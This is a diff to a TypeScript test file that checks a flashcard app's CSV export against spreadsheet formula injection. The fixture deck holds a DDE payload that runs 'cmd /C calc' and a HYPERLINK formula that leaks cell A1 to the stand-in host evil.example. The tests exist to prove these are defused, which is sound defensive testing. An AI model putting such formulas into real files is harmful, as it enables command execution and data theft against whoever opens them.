@@ -34,6 +34,18 @@ function readCsv(text: string): string[][] {
   return rows;
 }
 
+/** What OWASP's CSV-injection rule makes of a cell: a `'` before text a spreadsheet would run. */
+const defused = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+
+const formulaDeck = `# Formulas
+
+## =1+1
+
+=1+2 :: +SUM(1,2)
+-2+3 :: @SUM(1+1)*cmd|' /C calc'!A0
+=HYPERLINK("http://evil.example/?leak="&A1, "click") :: plain answer
+`;
+
 describe("CSV quoting", () => {
   it("quotes only fields that need it, doubling quotes", () => {
     expect(csvField("plain")).toBe("plain");
@@ -49,6 +61,20 @@ describe("CSV quoting", () => {
         ["1,2", "x"],
       ]),
     ).toBe('a,"b""c"\r\n"1,2",x\r\n');
+  });
+
+  it("puts a single quote before text a spreadsheet would run as a formula, inside a quoted field", () => {
+    expect(csvField("=1+2")).toBe(`"'=1+2"`);
+    expect(csvField("+1")).toBe(`"'+1"`);
+    expect(csvField("-1")).toBe(`"'-1"`);
+    expect(csvField("@SUM(A1)")).toBe(`"'@SUM(A1)"`);
+    expect(csvField("\t=1")).toBe(`"'\t=1"`);
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    // OWASP's own examples: quotes inside are doubled, the field stays one cell.
+    expect(csvField('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
+    expect(csvField(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`);
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField(-5)).toBe("-5");
   });
 });
 
@@ -78,10 +104,10 @@ describe.each(testProviders)("CSV export on %s", (provider) => {
     expect(rows[0]).toEqual(["front", "back", "kind", "context", "line"]);
     expect(rows.slice(1)).toEqual(
       cards.map((card) => [
-        card.front,
-        card.back,
+        defused(card.front),
+        defused(card.back),
         card.kind,
-        (JSON.parse(card.context) as string[]).join(" > "),
+        defused((JSON.parse(card.context) as string[]).join(" > ")),
         String(card.line),
       ]),
     );
@@ -100,5 +126,27 @@ describe.each(testProviders)("CSV export on %s", (provider) => {
     ]);
     const plain = (await exportDeckCsv(db.prisma, "net")).csv;
     expect(readCsv(lines.slice(3).join("\r\n"))).toEqual(readCsv(plain).slice(1));
+  });
+
+  it("leaves no cell a spreadsheet would run as a formula, in either form", async () => {
+    const imported = await importDeckSource(db.prisma, {
+      bytes: formulaDeck,
+      sourcePath: "content/formulas.md",
+      fileName: "formulas.md",
+    });
+    for (const ankiHeaders of [false, true]) {
+      const { csv } = await exportDeckCsv(db.prisma, imported.deck.slug, { ankiHeaders });
+      const cells = readCsv(
+        csv
+          .split("\r\n")
+          .filter((line) => !line.startsWith("#"))
+          .join("\r\n"),
+      ).flat();
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      expect(cells).toEqual(
+        expect.arrayContaining(["'=1+2", "'+SUM(1,2)", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"]),
+      );
+      expect(cells.filter((cell) => cell.startsWith("'=HYPERLINK("))).toHaveLength(1);
+    }
   });
 });
